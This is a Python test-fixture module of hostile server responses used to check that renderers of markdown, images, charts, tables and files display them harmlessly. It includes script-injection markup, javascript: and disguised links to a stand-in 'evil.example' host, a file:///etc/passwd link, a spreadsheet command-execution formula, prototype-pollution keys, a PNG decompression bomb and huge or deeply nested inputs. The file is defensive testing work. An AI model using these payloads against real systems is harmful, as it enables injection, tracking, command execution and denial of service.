"""What a hostile or broken server sends: no renderer may run, fetch, hide, forge or choke on what is in it.

One list for every renderer. A case is the JSON text of an envelope, or what makes it, for one that is large.
"""

from __future__ import annotations

import base64
import json
import struct
import sys
import zlib
from collections.abc import Callable
from typing import Any, Final, TypeAlias

import pytest

Case: TypeAlias = str | Callable[[], str]

EVIL = "https://evil.example"
"""A host that nothing may ask."""
RUN = "window.ran=1"
MARKUP = (
    f"<script>{RUN}</script><img src=x onerror={RUN}><svg onload={RUN}></svg>"
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>"
    f"<a href='javascript:{RUN}'>a</a><form action='{EVIL}'><input name=password></form>"
    "<style>*{display:none}</style>"
)
CONTROLS = "\u202e\u2066\u2069\u200b\x00\x1b[31m\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\x9b2J\u2028\U000e0041"

BAD_LINKS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java&#10;script:{RUN}",
    f"&#x6A;avascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "//evil.example/a",
    "\\\\evil.example\\a",
    "https:evil.example",
    "/\\evil.example",
    "https:///evil.example",
    "https://bank.example@evil.example/",
    "..//evil.example",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
)

_MARKUP: Final = (
    "<script>window.ran = 1</script><img src=x onerror='window.ran = 1'><svg onload='window.ran = 1'></svg>"
)
_ATTRIBUTE: Final = "\"' onmouseover='window.ran = 1' x=\"</title></style></textarea>"
_HIDDEN: Final = "\u202egnp.exe\u2066\u200b\x1b[31m\x1b]8;;https://evil.example\x07\x00\x9b2J\ud800"
_ALL: Final = f"{_MARKUP}{_ATTRIBUTE}{_HIDDEN}<!-- --><![CDATA[ ]]>&amp;&#x6A;"
_LINKS: Final = (
    *("javascript:window.ran=1", "JaVaScRiPt:window.ran=1", "java&#10;script:x", "&#x6A;avascript:x", "vbscript:x"),
    *("data:text/html,<script>window.ran=1</script>", "\x01javascript:x", "//evil.example", "\\\\evil.example"),
    *("https:evil.example", "/\\evil.example", "https:///evil.example", "https://bank.example@evil.example"),
    *(
        "..//evil.example",
        "file:///etc/passwd",
        "https://b\u0430nk.example/",
        "https://ex\nample.com",
        "blob:x",
        "#a",
        "a",
    ),
)


def _of(type: str, payload: Any, **members: Any) -> str:
    return json.dumps({"type": type, "payload": payload, **members})


def _chart(values: list[Any] | None = None, **members: Any) -> str:
    spec = {
        "mark": "bar",
        "data": {"values": [{"a": "x", "b": 1}, {"a": "y", "b": 2}] if values is None else values},
        "encoding": {"x": {"field": "a", "type": "nominal"}, "y": {"field": "b", "type": "quantitative"}},
    }
    return _of("chart", {**spec, **members}, alt="A chart.")


def _nested(open: str, inside: str, close: str, depth: int) -> str:
    return open * depth + inside + close * depth


def _png(width: int, height: int) -> str:
    """Return the address of a PNG that says it has this size; all its pixels are black, and its data is short."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = zlib.compress(b"\0" * (width // 8 + 1) * min(height, 20_000), 9)
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    picture = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    return "data:image/png;base64," + base64.b64encode(picture).decode()


def _links() -> str:
    targets = "\n\n".join(
        f"[inline]({link}) [angle](<{link}>) [reference][r{i}] ![picture]({link})" for i, link in enumerate(BAD_LINKS)
    )
    definitions = "\n".join(f"[r{i}]: {link}" for i, link in enumerate(BAD_LINKS))
    return _of("markdown", f"{targets}\n\n{definitions}\n\n<javascript:{RUN}>")


def _rows(count: int, columns: int = 8) -> list[list[Any]]:
    return [[f"row {i}", i * 1.5, *(f"{i}-{j}" for j in range(columns - 2))] for i in range(count)]


def _table(count: int, columns: int = 8) -> str:
    return _of("table", {"columns": [f"c{j}" for j in range(columns)], "rows": _rows(count, columns)})


def _bars(categories: int, series: int) -> str:
    rows = [{"a": f"c{i // series}", "b": i, "c": f"s{i % series}"} for i in range(categories * series)]
    encoding = {"x": {"field": "a"}, "y": {"field": "b", "type": "quantitative"}, "color": {"field": "c"}}
    return _chart(rows, encoding=encoding)


def _grid(rows: int, columns: int) -> dict[str, Any]:
    """Return a heat map with a number in each cell."""
    values = [{"a": f"r{i // columns}", "b": f"c{i % columns}", "n": i % 9} for i in range(rows * columns)]
    encoding = {"x": {"field": "b", "type": "ordinal"}, "y": {"field": "a", "type": "ordinal"}}
    color = {"color": {"field": "n", "type": "quantitative"}}
    return {"mark": "rect", "data": {"values": values}, "encoding": encoding | color}


def _in_groups(members: list[Any]) -> dict[str, Any]:
    """Return a group of 32 groups of these members."""
    return {"type": "group", "payload": [{"type": "group", "payload": members}] * 32}


def _five_megabytes(type: str, piece: str) -> str:
    return _of(type, (piece * (5_000_000 // len(piece) + 1))[:5_000_000])


def _objects(depth: int, opened: str, closed: str) -> str:
    return '{"type": "json", "payload": ' + _nested(opened, '{"a":1}', closed, depth) + "}"


def _group(depth: int) -> str:
    return _nested('{"type":"group","payload":[', '{"type":"text","payload":"deep"}', "]}", depth)


def _fallbacks(depth: int) -> str:
    return _nested('{"type":"x-a-b","payload":{},"fallback":', '{"type":"text","payload":"deep"}', "}", depth)


def _drawn_chart(**members: Any) -> dict[str, Any]:
    spec = {
        "mark": "bar",
        "data": {"values": [{"a": "x", "n": 1}]},
        "encoding": {"x": {"field": "a"}, "y": {"field": "n"}},
    }
    return {"type": "chart", "payload": spec | members}


_ROW: Final = {"a": _ALL, _ALL: 1}

# Everything at once, in each place.
_EVERYWHERE: Final[dict[str, Any]] = {
    "markup in text": {"type": "text", "payload": _ALL, "title": _ALL},
    "markup in markdown": {"type": "markdown", "payload": f"# {_ALL}\n\n{_ALL}\n\n```{_ALL}\n{_ALL}\n```\n\n`{_ALL}`"},
    "html blocks in markdown": {
        "type": "markdown",
        "payload": "<style>*{display:none}</style>\n\n<div style='position:fixed;inset:0'>over all</div>\n\n"
        "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>\n\n<form action=https://evil.example><input></form>",
    },
    "links": {"type": "markdown", "payload": "\n\n".join(f"[words]({one}) [ref][r] <{one}>" for one in _LINKS)},
    "link by reference": {"type": "markdown", "payload": "[a][1]\n\n[1]: javascript:window.ran=1 'title'"},
    "link titles": {"type": "markdown", "payload": f'[a](https://example.com "{_ATTRIBUTE}")'},
    "another address as words": {"type": "markdown", "payload": "[https://bank.example](https://evil.example/a)"},
    "pictures": {
        "type": "markdown",
        "payload": "![a](https://evil.example/p.png) ![b][p] ![c](data:image/svg+xml,x)\n\n[p]: https://evil.example/q.png",
    },
    "image by address": {"type": "image", "payload": {"src": "https://evil.example/p.png", "alt": _ALL}},
    "image of svg": {"type": "image", "payload": "data:image/svg+xml,<svg onload='window.ran=1'/>", "alt": _ALL},
    "image of SVG in capitals": {"type": "image", "payload": "DATA:IMAGE/SVG+XML,<svg onload='window.ran=1'/>"},
    "image of html": {"type": "image", "payload": {"src": "data:text/html,<script>window.ran=1</script>"}},
    "image that ends its attribute": {"type": "image", "payload": 'data:image/png,"onerror="window.ran=1'},
    "chart with an address": _drawn_chart(data={"url": "https://evil.example/data.json"}),
    "chart with parameters and a transform": _drawn_chart(
        params=[{"name": "p", "expr": "window.ran=1"}], transform=[{"calculate": "1", "as": "b"}]
    ),
    "chart with expressions": _drawn_chart(
        encoding={
            "x": {"field": "a", "axis": {"labelExpr": "window.ran=1"}},
            "y": {"field": "n", "value": {"signal": "x"}},
        }
    ),
    "chart with a link": _drawn_chart(
        encoding={"x": {"field": "a"}, "y": {"field": "n"}, "href": {"value": "javascript:window.ran=1"}}
    ),
    "chart with pictures": _drawn_chart(mark={"type": "image", "url": "https://evil.example/p.png"}),
    "chart with pictures in a layer": _drawn_chart(layer=[{"mark": "image"}]),
    "chart whose field is a program and is there": _drawn_chart(
        data={"values": [{"d'];x=1;//": _ALL, "n": 1}]},
        encoding={"x": {"field": "d'];x=1;//", "title": _ALL}, "y": {"field": "n", "title": _ALL}},
    ),
    "chart with markup everywhere": _drawn_chart(
        data={"values": [{"a": _ALL, "n": 1, "s": _ALL}, {"a": "b", "n": 2, "s": "t"}]},
        encoding={
            "x": {"field": "a", "title": _ALL},
            "y": {"field": "n", "title": _ALL},
            "color": {"field": "s", "title": _ALL},
        },
        title=_ALL,
    ),
    "lines with markup everywhere": _drawn_chart(
        mark="line",
        data={"values": [{"a": _ALL, "n": 1, "s": _ALL}, {"a": "b", "n": 2, "s": "t"}]},
        encoding={"x": {"field": "a", "title": _ALL}, "y": {"field": "n", "title": _ALL}, "color": {"field": "s"}},
    ),
    "slices with markup everywhere": _drawn_chart(
        mark="arc",
        data={"values": [{"a": _ALL, "n": 1}, {"a": "b", "n": 2}]},
        encoding={
            "theta": {"field": "n", "type": "quantitative", "title": _ALL},
            "color": {"field": "a", "title": _ALL},
        },
    ),
    "grid with markup everywhere": _drawn_chart(
        mark="rect",
        data={"values": [{"a": _ALL, "b": _ALL, "n": 1}]},
        encoding={
            "x": {"field": "a", "type": "ordinal", "title": _ALL},
            "y": {"field": "b", "type": "ordinal", "title": _ALL},
            "color": {"field": "n", "type": "quantitative", "title": _ALL},
        },
    ),
    "chart of numbers beyond all measure": _drawn_chart(
        data={"values": [{"a": "x", "n": 1e308}, {"a": "y", "n": -1e308}]}
    ),
    "table with markup everywhere": {
        "type": "table",
        "payload": {"columns": [_ALL, {"key": "b", "title": _ALL}], "rows": [[_ALL, _ALL]], "caption": _ALL},
    },
    "table of objects": {"type": "table", "payload": [_ROW]},
    "table of 100,000 objects": {"type": "table", "payload": [{"n": n} for n in range(100_000)]},
    "table of an object of 5,000 members": {"type": "table", "payload": [{f"c{n}": n for n in range(5000)}]},
    "table with names of objects": {"type": "table", "payload": [{"__proto__": 1, "constructor": 2, "toString": 3}]},
    "hidden characters": {"type": "notification", "payload": _HIDDEN, "title": _HIDDEN},
    "markup in a notification": {"type": "notification", "payload": {"message": _ALL, "level": "error"}},
    "html of everything": {"type": "html", "payload": _ALL, "alt": _ALL},
    "a type with the name of a method": {"type": "constructor", "payload": {"__proto__": {"a": 1}}, "alt": _ALL},
    "a type of markup": {"type": _ALL, "payload": {_ALL: [_ALL]}},
    "file by a program": {"type": "file", "payload": {"uri": "javascript:window.ran=1", "name": _ALL, "mime": _ALL}},
    "file with a user name": {"type": "file", "payload": {"uri": "https://bank.example@evil.example/f", "name": "f"}},
    "facts": {"type": "facts", "payload": {_ALL: _ALL}},
    "metric": {"type": "metric", "payload": {"label": _ALL, "value": _ALL, "unit": _ALL, "delta": _ALL}},
    "code": {"type": "code", "payload": {"code": _ALL, "language": _ALL, "filename": _ALL}},
    "json": {"type": "json", "payload": {_ALL: [_ALL] * 3}},
    "json 60 deep": {"type": "json", "payload": [[[[[[[[[[{"a": [[[[[[[[[[1]]]]]]]]]]}]]]]]]]]]]},
    "emphasis": {"type": "markdown", "payload": "*a " * 20_000},
    "brackets": {"type": "markdown", "payload": "![[]()" * 5_000},
    "quotations": {"type": "markdown", "payload": "\n".join([">" * 30 + " x"] * 500)},
    "a list 400 deep": {"type": "markdown", "payload": "\n".join("  " * n + "- x" for n in range(400))},
    "combining marks": {"type": "text", "payload": "a" + "\u0301" * 5000, "title": "a" + "\u0301" * 190},
    "no payload": {"type": "table"},
    "nothing": {},
    "a number as type": {"type": 1, "payload": "x"},
    "rows of null": {"type": "table", "payload": {"columns": ["a"], "rows": [None, None]}},
    "empty": {"type": "table", "payload": [], "title": " "},
}

HOSTILE: Final[dict[str, Case]] = {
    **{name: json.dumps(envelope) for name, envelope in _EVERYWHERE.items()},
    # Markup and addresses
    "markdown with markup": _of("markdown", MARKUP),
    "markdown with markup in a block": _of("markdown", f"a\n\n<div>\n{MARKUP}\n</div>\n\nb"),
    "markdown with bad links": _links,
    "markdown with pictures from elsewhere": _of("markdown", f"![a]({EVIL}/a.png) ![b][b]\n\n[b]: {EVIL}/b.png"),
    "markdown with entities": _of(
        "markdown", "&lt;script&gt;window.ran=1&lt;/script&gt; &#60;img src=x onerror=window.ran=1&#62; &#x202e;abc"
    ),
    "markdown whose link says another host": _of(
        "markdown", f"[https://bank.example]({EVIL}) [раураl.com](https://xn--80aa0aebnf.example)"
    ),
    "markdown with titles of links": _of("markdown", f'[a]({EVIL} "\\" onmouseover=\\"{RUN}") ![a]({EVIL} "x")'),
    "markdown with code that is markup": _of("markdown", f"```html onload={RUN}\n{MARKUP}\n```\n\n`{MARKUP}`"),
    "markdown with an info string of a prototype": _of("markdown", "```constructor\na\n```\n\n```__proto__\nb\n```"),
    "text with markup": _of("text", MARKUP),
    "html": _of("html", MARKUP),
    "code with markup": _of("code", {"code": MARKUP, "language": "html", "filename": f'"><script>{RUN}</script>'}),
    "code in a language of a prototype": _of("code", {"code": "a", "language": "constructor"}),
    "json with markup": _of("json", {MARKUP: MARKUP, "b": [MARKUP]}),
    "title and alt with markup": _of("text", "a", title=MARKUP[:200], alt=MARKUP),
    "notification with markup": _of("notification", {"message": MARKUP, "level": "error"}),
    "notification with a link": _of("notification", f"[click](javascript:{RUN}) {EVIL}"),
    "facts with markup": _of("facts", {MARKUP: MARKUP, "constructor": "a", "__proto__": "b"}),
    "metric with markup": _of("metric", {"label": MARKUP, "value": MARKUP, "unit": MARKUP, "delta": MARKUP}),
    "file that runs": _of("file", {"uri": f"javascript:{RUN}", "name": MARKUP, "mime": MARKUP}),
    "file on another computer": _of("file", {"uri": "\\\\evil.example\\share", "name": "a.pdf"}),
    "file whose name is a path": _of("file", {"uri": f"{EVIL}/a", "name": "../../.bashrc\u202egnp.exe"}),
    "table with markup": _of("table", {"columns": [MARKUP, "b"], "rows": [[MARKUP, MARKUP]], "caption": MARKUP}),
    "table with formulas": _of("table", [{"a": "=cmd|' /C calc'!A0", "b": "@SUM(1)", "c": -1}]),
    "caption with controls": _of("table", {"columns": ["a"], "rows": [[1]], "caption": CONTROLS}),
    # Pictures
    "picture from elsewhere": _of("image", f"{EVIL}/track.png", alt="A picture."),
    "picture over http": _of("image", "http://evil.example/track.png", alt="A picture."),
    "svg picture": _of(
        "image", f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>", alt="A picture."
    ),
    "svg picture in upper case": _of("image", "DATA:IMAGE/SVG+XML;base64,PHN2Zy8+", alt="A picture."),
    "picture that is a page": _of("image", f"data:text/html,<script>{RUN}</script>", alt=MARKUP),
    "picture that is script": _of("image", f"javascript:{RUN}", alt="A picture."),
    "picture that is broken": _of("image", "data:image/png;base64,iVBORw0KGgo=", alt="A picture."),
    "picture that is no base64": _of("image", "data:image/png;base64,%%%%", alt="A picture."),
    "picture with handlers in its type": _of(
        "image", {"src": 'data:image/png" onerror="window.ran=1,', "alt": "a", "mime": MARKUP}
    ),
    "picture that is a bomb": lambda: _of("image", _png(60_000, 60_000), alt="A picture."),
    "picture that is very wide": lambda: _of("image", _png(200_000, 1), alt="A picture."),
    "picture of a size beyond a double": _of("image", {"src": _png(1, 1), "alt": "a", "width": 1e308, "height": 1e308}),
    "picture of five megabytes": lambda: _of("image", "data:image/png;base64," + "A" * 5_000_000, alt="A picture."),
    # Charts
    "chart that loads its data": _chart(data={"url": f"{EVIL}/data.json"}),
    "chart with parameters": _chart(params=[{"name": "a", "expr": RUN}]),
    "chart that computes": _chart(transform=[{"calculate": RUN, "as": "b"}]),
    "chart with an expression in a label": _chart(
        encoding={"x": {"field": "a", "axis": {"labelExpr": RUN}}, "y": {"field": "b"}}
    ),
    "chart with a signal": _chart(mark={"type": "bar", "width": {"signal": RUN}}),
    "chart with an expression as a value": _chart(encoding={"x": {"field": "a"}, "y": {"value": {"expr": RUN}}}),
    "chart whose field is a program": _chart(
        encoding={"x": {"field": "d'];window.ran=1;//"}, "y": {"field": "b", "type": "quantitative"}}
    ),
    "chart with links": _chart(
        encoding={"x": {"field": "a"}, "y": {"field": "b"}, "href": {"value": f"javascript:{RUN}"}}
    ),
    "chart with settings": _chart(usermeta={"embedOptions": {"loader": EVIL}}, config={"background": f"url({EVIL})"}),
    "chart of pictures": _chart(mark={"type": "image", "url": f"{EVIL}/a.png"}),
    "chart of pictures in a layer": _chart(layer=[{"mark": {"type": "image"}, "encoding": {}}]),
    "chart a billion pixels wide": _chart(width=1e9, height=1e9),
    "chart of a sequence": _chart(data={"sequence": {"start": 0, "stop": 30_000_000}}),
    "chart of 100,000 rows": lambda: _chart([{"a": i, "b": i % 7} for i in range(100_000)]),
    "chart of 5,000 categories": lambda: _chart([{"a": f"c{i}", "b": i} for i in range(5_000)]),
    "chart of 1,000 series": lambda: _chart(
        [{"a": f"{i % 5}", "b": i, "c": f"s{i}"} for i in range(1_000)],
        encoding={
            "x": {"field": "a"},
            "y": {"field": "b", "type": "quantitative"},
            "color": {"field": "c", "type": "nominal"},
        },
    ),
    "chart of enormous numbers": _chart([{"a": "x", "b": 1e308}, {"a": "y", "b": -1e308}, {"a": "z", "b": 5e-324}]),
    "chart of names with markup": _chart([{"a": MARKUP, "b": 1}, {"a": CONTROLS, "b": 2}], title=MARKUP),
    "chart of names of prototypes": _chart(
        [{"a": "__proto__", "b": 1}, {"a": "constructor", "b": 2}, {"a": "toString", "b": 3}]
    ),
    "chart whose field is a prototype": _chart(
        encoding={"x": {"field": "__proto__"}, "y": {"field": "constructor", "type": "quantitative"}}
    ),
    "chart of nothing": _chart([]),
    "chart of layers in layers": lambda: (
        '{"type":"chart","alt":"a","payload":' + _nested('{"layer":[', '{"mark":"bar"}', "]}", 500) + "}"
    ),
    # Signs that move, hide or imitate
    "text with controls": _of("text", CONTROLS, title=CONTROLS, alt=CONTROLS),
    "markdown with controls": _of("markdown", f"# {CONTROLS}\n\n{CONTROLS} [a{CONTROLS}]({EVIL})"),
    "notification with controls": _of("notification", f"Paid: {CONTROLS}"),
    "text of combining marks": lambda: _of("text", "a" + "\u0301" * 100_000),
    "text of lone surrogates": '{"type": "text", "payload": "a\\ud800b\\udfff", "title": "\\ud800"}',
    "text of white space": _of("text", " \n\t\u00a0\u200b "),
    "title of invisible signs": _of("text", "\u200b\u2060\ufeff", title="\u200b\u2060"),
    # Names of the language
    "type constructor": _of("constructor", {"a": 1}),
    "type toString": _of("toString", "shown"),
    "type __proto__": _of("__proto__", "shown"),
    "members named __proto__": (
        '{"type": "text", "payload": "a", "__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}'
    ),
    "json with __proto__": (
        '{"type": "json", "payload": {"__proto__": {"polluted": 1}, "hasOwnProperty": 1, "length": -1}}'
    ),
    "table with a column __proto__": (
        '{"type": "table", "payload": [{"__proto__": 1, "constructor": 2, "toString": null}]}'
    ),
    # Giants
    "table of 100,000 rows": lambda: _table(100_000),
    "table of 300,000 rows": lambda: _table(300_000, 2),
    "table of 5,000 columns": lambda: _table(20, 5_000),
    "table with one enormous cell": lambda: _of("table", [{"a": "x" * 1_000_000, "b": 1}]),
    "table of rows of unequal length": _of("table", {"columns": ["a"], "rows": [[1, 2, 3, 4], [], {"a": 5}]}),
    "text of five megabytes in one line": lambda: _five_megabytes("text", "x"),
    "text of five megabytes of lines": lambda: _five_megabytes("text", "line\n"),
    "code of five megabytes in one line": lambda: _five_megabytes("code", "var a=1;"),
    "code of five megabytes of dashes": lambda: _five_megabytes("code", "-"),
    "yaml of dashes": lambda: _of("code", {"code": "-" * 50_000 + "\n" + "a" * 50_000, "language": "yaml"}),
    "html code of names": lambda: _of("code", {"code": "a" * 50_000 + "<" * 50_000, "language": "html"}),
    "markdown of five megabytes": lambda: _five_megabytes("markdown", "Some *words* and `code`.\n\n"),
    "markdown of five megabytes in one line": lambda: _five_megabytes("markdown", "word *a* [b](https://c.example) "),
    "markdown of brackets": lambda: _of("markdown", "[a](" * 50_000),
    "markdown of quotes": lambda: _of("markdown", ">" * 100_000),
    "markdown of emphasis": lambda: _of("markdown", "*a **b " * 20_000),
    "markdown of at signs": lambda: _of("markdown", "a" * 100_000 + "@"),
    "markdown of backticks": lambda: _of("markdown", "".join("`" * i + " " for i in range(500))),
    "markdown of nested lists": lambda: _of("markdown", "".join("  " * i + "- a\n" for i in range(400))),
    "markdown of definitions": lambda: _of("markdown", "".join(f"[r{i}]: {EVIL}/{i}\n" for i in range(5_000)) + "[r1]"),
    "markdown of a wide table": lambda: _of(
        "markdown", "|a" * 2_000 + "|\n" + "|-" * 2_000 + "|\n" + ("|b" * 2_000 + "|\n") * 20
    ),
    "markdown of tables of empty cells": lambda: _of(
        "markdown", ("|a" * 180 + "|\n" + "|-" * 180 + "|\n" + "|\n" * 364 + "\n") * 100
    ),
    "markdown of headings": lambda: _of("markdown", "###### a\n# b\n" * 10_000),
    "json of five megabytes": lambda: _of("json", [{"a": i, "b": "x" * 40} for i in range(80_000)]),
    "json of one enormous string": lambda: _of("json", {"a": "x" * 5_000_000}),
    "facts of 100,000": lambda: _of("facts", {f"k{i}": i for i in range(100_000)}),
    "metrics of 100,000": lambda: _of("metric", [{"label": f"m{i}", "value": i} for i in range(100_000)]),
    "group of 5,000": lambda: _of("group", [{"type": "text", "payload": "a"}] * 5_000),
    "group of 32 lists": lambda: _of("group", [{"type": "markdown", "payload": "- a\n" * 37_500}] * 32),
    "group of 32 texts of hidden characters": lambda: _of(
        "group", [{"type": "text", "payload": "<\u202e\x01" * 50_000}] * 32
    ),
    "group of 32 facts": lambda: _of("group", [{"type": "facts", "payload": {f"k{i}": i for i in range(9_000)}}] * 32),
    "group of 26 charts": lambda: _of("group", [json.loads(_bars(200, 12))] * 26),
    "groups of 28,000 charts": lambda: _of("group", [_in_groups([json.loads(_bars(2, 1))] * 32)] * 28),
    "groups of 2,000 wide tables": lambda: _of("group", [_in_groups([json.loads(_table(2, 64))] * 4)] * 16),
    "table of 1,600,000 empty rows": lambda: _of("table", [{}] * 1_600_000),
    "table of 1,600,000 columns": lambda: _of("table", {"columns": [""] * 1_600_000, "rows": []}),
    "table with one row of 2,000,000 cells": lambda: _of("table", {"columns": [], "rows": [[0] * 2_000_000]}),
    "table with a caption of five megabytes": lambda: _of(
        "table", {"columns": ["a"], "rows": [[1]], "caption": "\u202e" * 1_600_000}
    ),
    "facts of 400,000 short names": lambda: _of("facts", {f"{i:x}": 0 for i in range(400_000)}),
    "group of 32 long texts": lambda: _of(
        "group", [{"type": "markdown", "payload": "Some *words* and `code`.\n\n" * 6_000}] * 32
    ),
    "facts of 500,000": lambda: _of("facts", {f"k{i}": i for i in range(500_000)}),
    "facts of bidi signs": lambda: _of("facts", {f"\u202e{i}": "\u202e" * 400 for i in range(500)}),
    "group of 32 facts of bidi signs": lambda: _of(
        "group", [{"type": "facts", "payload": {f"\u202e{i}": "\u202e" * 125 for i in range(50)}}] * 32
    ),
    "table of bidi signs": lambda: _of(
        "table", {"columns": ["\u202e" * 200] * 64, "rows": [["\u202e" * 50] * 64] * 62}
    ),
    "group of 4 wide tables of bidi signs": lambda: _of(
        "group", [{"type": "table", "payload": {"columns": ["a"] * 64, "rows": [["\u202e" * 12] * 64] * 62}}] * 4
    ),
    "group of 32 wide tables": lambda: _of("group", [json.loads(_table(200, 64))] * 32),
    "group of 32 heat maps": lambda: _of("group", [{"type": "chart", "payload": _grid(70, 70), "alt": "a"}] * 32),
    "heat map of 5,000 numbers": lambda: _of("chart", _grid(125, 40), alt="a"),
    "group of 32 metrics": lambda: _of(
        "group", [{"type": "metric", "payload": [{"label": "\u202e" * 15, "value": i} for i in range(500)]}] * 32
    ),
    "markdown of bidi signs": lambda: _of("markdown", "\u202e" * 1_600_000),
    "notification of a megabyte": lambda: _of("notification", "x" * 1_000_000),
    "alt of a megabyte": lambda: _of("x-a-b", {}, alt="x " * 500_000),
    # Depth
    "json 200 deep": lambda: _objects(200, '{"a":', "}"),
    "json 5,000 deep": lambda: _objects(5_000, "[", "]"),
    "group 200 deep": lambda: _group(200),
    "fallbacks 50 deep": lambda: _fallbacks(50),
    "fallbacks 2,000 deep": lambda: _fallbacks(2_000),
    # No envelope at all
    "an array": "[]",
    "a number": "7",
    "a string": '"<script>window.ran=1</script>"',
    "an empty object": "{}",
    "members of other types": (
        '{"type": 7, "payload": null, "title": {}, "alt": [], "fallback": 3, "id": {}, "meta": 1}'
    ),
    "a fallback that is no envelope": '{"type": "x-a-b", "payload": {}, "fallback": {"type": null}}',
    "a locale that is none": _of("text", "a", meta={"locale": '"><script>'}),
}
"""The cases by what they try. Each of them is shown as something, and nothing of it happens."""

NO_JSON: Final[dict[str, Any]] = {
    "chart of not a number": _drawn_chart(
        data={"values": [{"a": "x", "n": float("nan")}, {"a": "y", "n": float("inf")}]}
    ),
}
"""Displays that a program in Python can hand over, and no server can send."""

NAMES: Final = [
    *(name if isinstance(case, str) else pytest.param(name, marks=pytest.mark.slow) for name, case in HOSTILE.items()),
    *NO_JSON,
]
"""The parameters of a test of all of them."""


def text(case: Case) -> str:
    """Return the JSON text of a case."""
    return case if isinstance(case, str) else case()


def envelope(name: str) -> Any:
    """Return what a renderer is given: the decoded case, which can be no envelope at all."""
    if name in NO_JSON:
        return NO_JSON[name]
    before = sys.getrecursionlimit()
    sys.setrecursionlimit(50_000)  # json.loads takes a level of it for each of the value
    try:
        return json.loads(text(HOSTILE[name]))
    finally:
        sys.setrecursionlimit(before)
